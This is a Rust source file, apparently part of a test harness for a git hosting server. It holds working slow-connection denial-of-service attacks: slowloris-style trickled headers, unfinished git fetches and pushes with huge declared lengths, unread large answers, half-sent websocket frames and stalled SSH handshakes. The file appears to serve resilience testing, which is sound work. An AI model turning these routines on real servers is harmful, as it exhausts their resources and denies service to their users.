//! Attacks that open connections and keep them.

use super::asking::large_pages;
use super::attacks::Front;
use super::pushing::commands;
use crate::git::bombs::noise;
use crate::git::raw::packet;
use abide_testkit::connect_from;
use abide_testkit::http::Request;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

/// The bytes that each connection sends, and the number of connections.
pub struct Held<'a> {
    to: SocketAddr,
    count: usize,
    beginning: &'a [u8],
    /// Said from time to time.
    more: &'a [u8],
    /// How an answer begins that belongs to the attack; with none, a connection counts while the server is silent.
    answer: Option<&'static [u8]>,
}

/// A fetch that begins and says nothing more.
pub fn silent_fetches(front: &Front) {
    let mut body = packet("command=fetch");
    body.extend(b"0001");
    let head = unfinished("/alice/demo.git/git-upload-pack", "git-upload-pack", "Git-Protocol: version=2\r\n");
    hold(front, &silent(front, 64, &[head, body].concat(), b""));
}

/// A fetch whose answer is taken a few bytes at a time.
pub fn answers_not_taken(front: &Front) {
    let wanted = format!("want {}\n", front.target.large);
    let body =
        [packet("command=fetch\n"), b"0001".to_vec(), packet(&wanted), packet("done\n"), b"0000".to_vec()].concat();
    let ask = Request::new("POST", "/alice/large.git/git-upload-pack")
        .header("Content-Type", "application/x-git-upload-pack-request")
        .header("Git-Protocol", "version=2")
        .body(body)
        .to_bytes(front.target.addr);
    hold(front, &Held { answer: Some(b"HTTP/1.1 200"), ..silent(front, 12, &ask, b"") });
}

/// Large answers that are asked for and not read.
pub fn answers_not_read(front: &Front) {
    let ask = large_pages(front)[0].to_bytes(front.target.addr);
    hold(front, &Held { answer: Some(b"HTTP/1.1 200"), ..silent(front, 150, &ask, b"") });
}

/// A log-in whose body never comes.
pub fn unfinished_forms(front: &Front) {
    hold(front, &silent(front, 250, FORM, b""));
}

/// The same from an address that does something else too.
pub fn more_forms(front: &Front) {
    hold(front, &silent(front, 150, FORM, b""));
}

const FORM: &[u8] = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\
    Content-Length: 1000\r\n\r\nn";

/// A request whose head comes a byte at a time.
pub fn slow_heads(front: &Front) {
    hold(front, &silent(front, 150, b"GET / HTTP/1.1\r\nHost: x\r\nX: ", b"a"));
}

/// A pack that comes a byte at a time.
pub fn slow_packs(front: &Front) {
    let tree = &front.target.wide_tree;
    let begun = &tree[..tree.len() / 3];
    let push = [unfinished(&front.target.push_path(0), "git-receive-pack", ""), commands(), begun.to_vec()].concat();
    hold(front, &silent(front, 24, &push, b"\0"));
}

/// Packs of an account that may read the repository but not push.
pub fn refused_pushes(front: &Front) {
    let login = format!("Authorization: Bearer {}\r\n", front.target.reader);
    let head = unfinished("/alice/demo.git/git-receive-pack", "git-receive-pack", &login);
    let push = [head, commands(), noise(200 << 10)].concat();
    hold(front, &silent(front, 48, &push, b"\0"));
}

const UPGRADE: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";

/// Sockets of the relay that are opened and left alone.
pub fn sockets(front: &Front) {
    hold(front, &Held { answer: Some(b"HTTP/1.1 101"), ..silent(front, 60, UPGRADE, b"") });
}

/// Messages for the relay whose second frame never comes, with control frames that say that the client is still there.
pub fn unfinished_messages(front: &Front) {
    let begun = [UPGRADE, &[0x01, 0xff], &1_900_000_u64.to_be_bytes(), &[0; 4], &vec![b'x'; 1_900_000]].concat();
    let pong = [0x8a, 0x80, 0, 0, 0, 0];
    hold(front, &Held { answer: Some(b"HTTP/1.1 101"), ..silent(front, 45, &begun, &pong) });
}

/// SSH connections that never say who they are.
pub fn ssh_connections(front: &Front) {
    let to = front.target.ssh;
    hold(front, &Held { to, answer: Some(b"SSH-2.0"), ..silent(front, 100, b"SSH-2.0-x\r\n", b"") });
}

/// The same for connections that get an answer which begins like this.
pub fn taking<'a>(held: Held<'a>, answer: &'static [u8]) -> Held<'a> {
    Held { answer: Some(answer), ..held }
}

/// Connections on which the server waits.
pub fn silent<'a>(front: &Front, count: usize, beginning: &'a [u8], more: &'a [u8]) -> Held<'a> {
    Held { to: front.target.addr, count, beginning, more, answer: None }
}

/// The head of a git request that promises more than ever comes.
fn unfinished(path: &str, service: &str, more: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-{service}-request\r\n{more}\
         Content-Length: 100000000\r\n\r\n"
    )
    .into_bytes()
}

/// Keeps so many connections open: each says its beginning, then a little more from time to time, and is replaced when
/// the server closes it or answers something else.
pub fn hold(front: &Front, held: &Held) {
    let mut places: Vec<Option<Place>> = (0..held.count).map(|_| None).collect();
    while !front.is_over() {
        for place in &mut places {
            if front.is_over() {
                return;
            }
            let Some(open) = place else {
                front.tally.tries();
                *place = Place::take(front, held);
                continue;
            };
            if !open.goes_on(front, held) {
                *place = None;
            }
        }
        front.tally.holds(places.iter().flatten().filter(|place| place.counts).count());
        // An attacker of many connections is not a busy loop: what hurts is that they stay.
        thread::sleep(Duration::from_millis(200));
    }
}

/// A connection.
struct Place {
    stream: TcpStream,
    answered: bool,
    /// Whether it was seen to have got as far as the attack wants.
    counts: bool,
}

impl Place {
    fn take(front: &Front, held: &Held) -> Option<Self> {
        let refused = || front.tally.is_refused();
        let Ok(mut stream) = connect_from(front.from, held.to) else {
            refused();
            return None;
        };
        let _ = stream.set_write_timeout(Some(Duration::from_secs(2)));
        if stream.write_all(held.beginning).is_err() || stream.set_nonblocking(true).is_err() {
            refused();
            return None;
        }
        Some(Self { stream, answered: false, counts: false })
    }

    /// Whether it is still open and of use, after a little more was said on it.
    fn goes_on(&mut self, front: &Front, held: &Held) -> bool {
        let more = self.stream.write(held.more);
        if !held.more.is_empty() && more.is_err_and(|error| error.kind() != ErrorKind::WouldBlock) {
            return self.ends(front, "");
        }
        let mut bytes = [0; 512];
        match self.stream.read(&mut bytes) {
            Ok(0) => return self.ends(front, ""),
            Ok(_) if self.answered => {}
            Ok(count) => match held.answer {
                Some(answer) if bytes[..count].starts_with(answer) => self.answered = true,
                _ => return self.ends(front, &String::from_utf8_lossy(&bytes[..count])),
            },
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return self.ends(front, ""),
        }
        if !self.counts && (held.answer.is_none() || self.answered) {
            self.counts = true;
            front.tally.reaches();
        }
        true
    }

    /// One that never got anywhere was refused.
    fn ends(&self, front: &Front, words: &str) -> bool {
        if !self.counts {
            front.tally.is_told(false, words);
        }
        false
    }
}
